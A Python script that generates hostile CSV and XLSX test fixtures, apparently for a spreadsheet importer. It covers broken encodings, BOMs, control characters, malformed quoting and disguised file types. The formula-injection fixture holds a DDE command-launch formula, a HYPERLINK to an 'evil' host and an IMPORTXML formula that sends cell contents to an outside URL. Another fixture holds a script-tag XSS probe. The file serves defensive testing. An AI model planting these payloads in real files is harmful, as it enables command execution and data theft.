#!/usr/bin/env python3
"""Regenerates the small hostile files of this directory (run it here).

Big hostile inputs (a zip bomb posing as XLSX, a file of millions of short rows, a deeply
nested worksheet) are generated at test time by crates/app/tests/hostile.rs instead.
"""
import codecs

H = "code,name\n"
files = {}
files["formula-injection.csv"] = (H + "361128100,=cmd|' /C calc'!A0\n361128101,+SUM(1;2)\n361128102,-2+3\n361128103,@HYPERLINK(\"http://evil\")\n361128104,\t=1+1\n361128105,\"=IMPORTXML(CONCAT(\"\"http://x/?\"\",A1),\"\"//a\"\")\"\n").encode()
files["invalid-utf8.csv"] = H.encode() + b"361128100,\xff\xfe\xfd bad\n361128101,ok\n"
files["utf8-then-invalid-late.csv"] = H.encode() + b"".join(b"3611281%02d,name\n" % i for i in range(10)) + b"361128199,\xc3\x28\n"
files["bom-in-middle.csv"] = H.encode() + "361128100,饶\ufeff州\n361128101,\ufeff东湖\n".encode()
files["double-bom.csv"] = codecs.BOM_UTF8 + codecs.BOM_UTF8 + H.encode() + "361128100,饶州\n".encode()
files["control-chars.csv"] = H.encode() + b"361128100,bell\x07\n361128101,esc\x1b[31mred\n361128102,back\x08space\n361128103,del\x7f\n"
files["nul-bytes.csv"] = H.encode() + b"361128100,a\x00b\n"
files["utf16le-bom.csv"] = codecs.BOM_UTF16_LE + (H + "361128100,饶州\n").encode("utf-16-le")
files["utf16be-bom.csv"] = codecs.BOM_UTF16_BE + (H + "361128100,饶州\n").encode("utf-16-be")
files["utf16le-no-bom.csv"] = (H + "361128100,饶州\n").encode("utf-16-le")
files["gb18030.csv"] = "代码,名称\n361128100,饶州街道\n361128101,鸦鹊湖乡\n".encode("gb18030")
files["gb18030-damaged.csv"] = "代码,名称\n361128100,饶州街道\n".encode("gb18030") + b"361128101,\x81\x7f\n"
files["big5.csv"] = "代碼,名稱\n361128100,饒州街道\n361128101,鴉鵲湖鄉\n361128102,蓮花山鄉\n".encode("big5")
files["mojibake.csv"] = H.encode() + "361128100,é¥¶å·ž\n361128101,锟斤拷\n361128102,a\ufffdb\n361128103,â€œquotedâ€\u009d\n".encode()
files["cr-only.csv"] = b"code,name\r361128100,a\r361128101,b\r"
files["crlf.csv"] = b"code,name\r\n361128100,a\r\n361128101,b\r\n"
files["unclosed-quote.csv"] = H.encode() + b"361128100,\"never closed\n361128101,b\n361128102,c\n"
files["quote-in-middle.csv"] = H.encode() + b"361128100,a\"b\"c\n361128101,\"a\"\"b\"\n"
files["empty.csv"] = b""
files["only-bom.csv"] = codecs.BOM_UTF8
files["header-only.csv"] = H.encode()
files["blank-lines.csv"] = b"\n\n\n" + H.encode() + b"\n\n361128100,a\n,,,,\n\n"
files["duplicate-headers.csv"] = b"code,name,code,\xe5\x90\x8d\xe7\xa7\xb0\n361128100,a,361128100,b\n"
files["unknown-headers.csv"] = b"code,name,<script>alert(1)</script>,=1+1\n361128100,a,b,c\n"
files["ragged-rows.csv"] = H.encode() + b"361128100\n361128101,a,extra,more,cells\n,\n"
files["huge-cell.csv"] = H.encode() + b"361128100," + ("长" * 5000).encode() + b"\n"
files["wide-row.csv"] = H.encode() + b"361128100,a" + b",x" * 300 + b"\n"
files["numbers-as-codes.csv"] = H.encode() + b"3.61128E+11,a\n361128100.0,b\n  361128101  ,c\n\xef\xbc\x93\xef\xbc\x96\xef\xbc\x91\xef\xbc\x91\xef\xbc\x92\xef\xbc\x98\xef\xbc\x91\xef\xbc\x90\xef\xbc\x90,d\n-361128100,e\n"
files["right-to-left-override.csv"] = H.encode() + "361128100,\u202eevil\u202c\n361128101,zero\u200bwidth\n".encode()
files["not-a-zip.xlsx"] = b"code,name\n361128100,a\n"
files["zip-garbage.xlsx"] = b"PK\x03\x04" + bytes((i * 37 + 11) % 256 for i in range(600))
files["ole-as-csv.csv"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200)
files["legacy.xls"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200)
files["html-as-xls.xls"] = b"<html><table><tr><td>code</td></tr></table></html>"
for name, data in files.items():
    with open(name, "wb") as out:
        out.write(data)
print(f"{len(files)} files")
